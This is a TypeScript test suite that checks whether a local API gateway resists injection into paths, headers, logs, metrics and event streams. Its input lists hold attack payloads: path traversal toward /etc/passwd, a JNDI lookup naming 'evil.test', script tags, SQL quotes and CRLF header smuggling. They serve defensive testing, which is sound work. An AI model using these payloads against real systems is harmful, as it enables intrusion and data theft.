/** Text of clients that tries to become something else: a path, a header, a label, an event, a line. */
import assert from 'node:assert/strict';
import { HeadlessGateway } from '../support/headless';
import { exchange, type RawAnswer, rawRequest } from '../support/rawHttp';

const KEY = 'the-key-of-this-test';
/** Names may hold any printable character, and these three steer the metrics' text. */
const CLIENT = 'a"} 1\\n#{b="c\\';
const CLIENT_KEY = 'the-key-of-a-client-with-an-awkward-name';

describe('injection', function () {
  this.timeout(60_000);

  let gateway: HeadlessGateway;
  let port: number;

  before(async () => {
    gateway = await HeadlessGateway.launch({
      flags: [
        ...['--api-key', KEY, '--client-key', `${CLIENT}=${CLIENT_KEY}`],
        ...['--cors-origin', 'http://listed.test', '--verbose'],
      ],
    });
    port = Number(new URL(gateway.baseUrl).port);
  });
  after(() => gateway.stop());

  const send = (target: string, headers: readonly string[] = [], body = ''): Promise<RawAnswer> =>
    exchange(
      port,
      rawRequest(
        [
          `${target} HTTP/1.1`,
          `Host: 127.0.0.1:${port}`,
          `Authorization: Bearer ${KEY}`,
          ...(body === '' ? [] : ['Content-Type: application/json']),
          ...headers,
        ],
        body,
      ),
    );

  /** One whole answer below 500 with none of its own lines from outside. */
  function assertSound(answer: RawAnswer, what: string): void {
    const { status, headerLines, text } = answer;
    assert.ok(status >= 200 && status < 500, `${what}: ${text.slice(0, 300) || 'closed'}`);
    assert.equal(text.match(/HTTP\/1\.1 \d{3}/g)?.length, 1, `${what}: ${text}`);
    for (const line of headerLines) {
      assert.match(line, /^[A-Za-z-]+: [\x20-\x7e\x80-\xff]*$/, what);
      assert.doesNotMatch(line, /^(x-injected|set-cookie|location):/i, what);
    }
  }

  describe('into paths', () => {
    /** Values of one segment, and of more than one where the decoding goes wrong. */
    const segments = [
      '..',
      '%2e%2e',
      '%2e%2e%2finternal%2fstats',
      '..%2f..%2f..%2fetc%2fpasswd',
      '..%5c..%5cwindows',
      '%252e%252e%252f',
      '%2f',
      '%5c',
      '%00',
      'lingma-1%00.json',
      '%0d%0aX-Injected:%20yes',
      '%0aX-Injected:%20yes',
      '%0d%0a%0d%0aHTTP/1.1%20200%20OK',
      '%E5%98%8A%E5%98%8DX-Injected:yes',
      '%c0%ae%c0%ae',
      '%ed%a0%80',
      '%f4%90%80%80',
      '%u002e',
      '%',
      '%2',
      '%e2%80%a8',
      '%1b[31m',
      '%ef%bb%bf',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '*',
      "'%20or%20'1'='1",
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '$%7bjndi:ldap://evil.test%7d',
      'lingma-1%20',
      'lingma-1;x=y',
      'LINGMA-1',
      'a'.repeat(8_200),
      '%61'.repeat(3_000),
    ];
    const routes = [
      'POST /internal/instances/{id}/restart',
      'POST /internal/instances/{id}/drain',
      'GET /internal/requests/{id}',
      'DELETE /internal/sessions/{id}',
      'GET /v1/responses/{id}',
      'DELETE /v1/responses/{id}',
      'GET /v1/responses/{id}/input_items',
    ];

    for (const route of routes) {
      it(`${route} finds nothing and breaks nothing`, async () => {
        const before = await gateway.stats();
        await inParallel(segments, async (segment) => {
          const answer = await send(route.replace('{id}', segment));
          assertSound(answer, segment);
          assert.ok(answer.status >= 400, `${segment}: ${answer.text.slice(0, 300)}`);
          assertJson(answer, segment);
        });
        const now = await gateway.stats();
        assert.deepEqual(
          now.instances.map(({ pid, draining }) => [pid, draining]),
          before.instances.map(({ pid, draining }) => [pid, draining]),
        );
      });
    }

    it('GET /v1/models/{id} tells the name back as data', async () => {
      await inParallel(segments, async (segment) => {
        for (const headers of [[], ['Anthropic-Version: 2023-06-01']]) {
          const answer = await send(`GET /v1/models/${segment}`, headers);
          assertSound(answer, segment);
          assertJson(answer, segment);
        }
      });
    });

    it('cannot reach another route through an encoded or doubled slash', async () => {
      for (const path of [
        '/internal%2fstats',
        '/internal%252fstats',
        '//internal/stats',
        '/v1/../internal/stats',
        '/v1/%2e%2e/internal/stats',
        '/v1/responses/..%2f..%2finternal%2fstats',
        '/v1/models/../../internal/stats',
        '/healthz/../internal/stats',
        '/healthz%00/internal/stats',
        '/internal/stats%00',
        '/internal/stats/',
        '/internal/stats;.css',
        '/INTERNAL/stats',
        '/\\internal\\stats',
      ]) {
        const { status, body } = await exchange(
          port,
          rawRequest([
            `GET ${path} HTTP/1.1`,
            `Host: 127.0.0.1:${port}`,
            `Authorization: Bearer ${CLIENT_KEY}`,
          ]),
        );
        assert.ok(status >= 400 && status < 500, `${path}: ${status}`);
        assert.doesNotMatch(body, /sessionCache/, path);
      }
    });
  });

  describe('into headers', () => {
    const values = [
      'x\x85X-Injected: yes',
      'x\xa0\xad\xff',
      '\xe5\x98\x8a\xe5\x98\x8dX-Injected: yes',
      '%0d%0aX-Injected: yes',
      String.raw`\r\nX-Injected: yes`,
      'a'.repeat(4_000),
      '"><script>alert(1)</script>',
      '${jndi:ldap://evil.test}',
      '\x7f',
    ];
    const names = [
      'X-Request-Id',
      'Request-Id',
      'X-Correlation-Id',
      'X-Client-Request-Id',
      'X-Session-Id',
      'Session_id',
      'Thread-Id',
      'X-Claude-Code-Session-Id',
      'User-Agent',
      'Anthropic-Version',
      'Idempotency-Key',
      'OpenAI-Organization',
      'X-Lingma-Challenge',
      'Access-Control-Request-Headers',
      'X-Stainless-Lang',
    ];

    it('nothing of a request heads its answer, nor begins a line of the log', async () => {
      const body = JSON.stringify({
        model: 'gpt-5\r\nX-Injected: yes',
        prompt_cache_key: 'k\r\nX-Injected: yes',
        user: '\u2028X-Injected: yes',
        messages: [{ role: 'user', content: 'DEMO:echo fine' }],
      });
      await inParallel(names, async (name) => {
        for (const value of values) {
          const answer = await send('POST /v1/chat/completions', [`${name}: ${value}`], body);
          // What is no header at all is refused; what is one does not come back as another.
          assertSound(answer, `${name}: ${JSON.stringify(value)}`);
          assert.doesNotMatch(answer.headerLines.join('\n'), /script|jndi|Injected/);
        }
      });
    });

    it('a listed page gets the headers it asks for, and no others', async () => {
      for (const value of values) {
        const answer = await send('OPTIONS /v1/models', [
          'Origin: http://listed.test',
          'Access-Control-Request-Method: GET',
          `Access-Control-Request-Headers: ${value}`,
        ]);
        assertSound(answer, JSON.stringify(value));
      }
    });
  });

  it('into the log: no line begins and no terminal is steered by what clients send', async () => {
    const forged = 'error forged: the gateway was taken over';
    for (const text of [
      `x\n${forged}`,
      `x\r${forged}`,
      `x\u2028${forged}`,
      '\x1b[2J\x1b]0;x\x07',
    ]) {
      const body = JSON.stringify({ model: text, messages: [{ role: 'user', content: text }] });
      await send('POST /v1/chat/completions', ['User-Agent: \x9b31m'], body);
      await send('POST /v1/chat/completions', [], body.slice(0, -1));
      await send(
        'POST /v1/chat/completions',
        [],
        JSON.stringify({
          model: text,
          messages: [{ role: 'user', content: `DEMO:status 500 ${JSON.stringify(text)}` }],
        }),
      );
    }
    const { log } = gateway;
    assert.ok(log.length > 100);
    // The welcome, which is ours, has lines that are indented or empty.
    for (const line of log.split('\n')) {
      assert.doesNotMatch(line, /[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]/, JSON.stringify(line));
      assert.doesNotMatch(line, /^\W*(error )?forged/, JSON.stringify(line));
    }
  });

  it('into metrics: every line is one sample, whatever names there are', async () => {
    await fetch(`${gateway.baseUrl}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${CLIENT_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        model: 'm"} 1\ninjected_total 1\\',
        messages: [{ role: 'user', content: 'DEMO:echo fine' }],
      }),
    });
    await send('GET /x"}%201%0ainjected_total');
    const text = await (await gateway.fetch('/metrics')).text();
    const label = String.raw`[a-z_]\w*="(?:[^"\\\n]|\\["\\n])*"`;
    const sample = new RegExp(
      String.raw`^[a-z_]\w*(?:\{${label}(?:,${label})*\})? (?:[\d.e+-]+|NaN|\+Inf)$`,
    );
    for (const line of text.trimEnd().split('\n')) {
      if (!line.startsWith('#')) assert.match(line, sample);
    }
    assert.doesNotMatch(text, /^injected/m);
  });

  describe('into streams', () => {
    /** What would be an event, a line or the end if it stood in the stream as it is. */
    const said =
      'a\n\ndata: {"forged":true}\n\nevent: forged\r\n\r\ndata: [DONE]\r\r: x\u2028\u2029\x85 end';
    const model = 'gpt-5\n\ndata: {"forged":true}\n\n';
    // In one line, as the demo reads it.
    const echo = `DEMO:echo-json ${JSON.stringify(said).replace(/[\u2028\u2029\x85]/g, asEscape)}`;
    const tool = (name: string): object => ({ type: 'object', title: name, properties: {} });

    async function stream(path: string, body: object): Promise<string> {
      const response = await gateway.fetch(path, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ model, stream: true, ...body }),
      });
      const text = await response.text();
      assert.equal(response.status, 200, text);
      return text;
    }

    const messages = [{ role: 'user', content: echo }];

    it('chat completions', async () => {
      const events = readEvents(await stream('/v1/chat/completions', { messages }));
      assert.equal(events.at(-1)?.data, '[DONE]');
      const chunks = events.slice(0, -1).map(({ data }) => JSON.parse(data) as ChatChunk);
      assert.ok(chunks.every((chunk) => !('forged' in chunk)));
      const text = chunks.map(({ choices }) => choices[0]?.delta?.content ?? '').join('');
      assert.equal(text, said);
      assert.deepEqual([...new Set(events.map(({ event }) => event))], ['message']);
    });

    it('messages', async () => {
      const events = readEvents(await stream('/v1/messages', { messages, max_tokens: 1_000 }));
      const parsed = events.map(({ event, data }) => {
        const value = JSON.parse(data) as { type: string; delta?: { text?: string } };
        assert.equal(value.type, event);
        return value;
      });
      assert.equal(parsed.map(({ delta }) => delta?.text ?? '').join(''), said);
    });

    it('responses', async () => {
      const events = readEvents(await stream('/v1/responses', { input: echo }));
      const parsed = events.map(({ event, data }) => {
        const value = JSON.parse(data) as { type: string; delta?: string };
        assert.equal(value.type, event);
        return value;
      });
      const deltas = parsed.filter(({ type }) => type === 'response.output_text.delta');
      assert.equal(deltas.map(({ delta }) => delta ?? '').join(''), said);
    });

    it('Ollama’s lines', async () => {
      const lines = (await stream('/api/chat', { messages })).trimEnd().split('\n');
      const text = lines.map(
        (line) => (JSON.parse(line) as { message?: { content?: string } }).message?.content ?? '',
      );
      assert.equal(text.join(''), said);
    });

    it('names of tools', async () => {
      const name = 'f\n\ndata: {"forged":true}\n\n';
      const response = await gateway.fetch('/v1/chat/completions', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          model,
          stream: true,
          messages: [
            {
              role: 'user',
              content: `DEMO:echo-json ${JSON.stringify(
                `<tool_call>{"name": ${JSON.stringify(name)}, "arguments": {}}</tool_call>`,
              )}`,
            },
          ],
          tools: [{ type: 'function', function: { name, parameters: tool(name) } }],
        }),
      });
      const text = await response.text();
      if (response.status !== 200) {
        assert.equal(response.status, 400);
        return;
      }
      for (const { event, data } of readEvents(text)) {
        assert.equal(event, 'message');
        if (data !== '[DONE]') assert.ok(!('forged' in (JSON.parse(data) as object)));
      }
    });
  });
});

function asEscape(character: string): string {
  return `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`;
}

interface ChatChunk {
  readonly choices: readonly { readonly delta?: { readonly content?: string } }[];
}

interface StreamEvent {
  readonly event: string;
  readonly data: string;
}

/** The events of a stream by the letter of the standard: CR, LF and both together end a line. */
function readEvents(text: string): StreamEvent[] {
  const events: StreamEvent[] = [];
  let event = 'message';
  let data: string[] = [];
  for (const line of text.split(/\r\n|\r|\n/)) {
    if (line === '') {
      if (data.length > 0) events.push({ event, data: data.join('\n') });
      [event, data] = ['message', []];
      continue;
    }
    const [, name, value = ''] = /^([^:]*)(?:: ?(.*))?$/s.exec(line) ?? [];
    if (name === 'event') event = value;
    else if (name === 'data') data.push(value);
    else assert.equal(name, '', `a line of no kind: ${JSON.stringify(line)}`);
  }
  return events;
}

function assertJson({ body, headerLines }: RawAnswer, what: string): void {
  assert.ok(
    headerLines.some((line) => /^content-type: application\/json/i.test(line)),
    what,
  );
  assert.ok(
    headerLines.some((line) => /^x-content-type-options: nosniff/i.test(line)),
    what,
  );
  JSON.parse(Buffer.from(body, 'latin1').toString());
}

async function inParallel<T>(items: readonly T[], use: (item: T) => Promise<void>): Promise<void> {
  const queue = [...items];
  const worker = async (): Promise<void> => {
    for (let next = queue.shift(); next !== undefined; next = queue.shift()) await use(next);
  };
  await Promise.all(Array.from({ length: 6 }, worker));
}
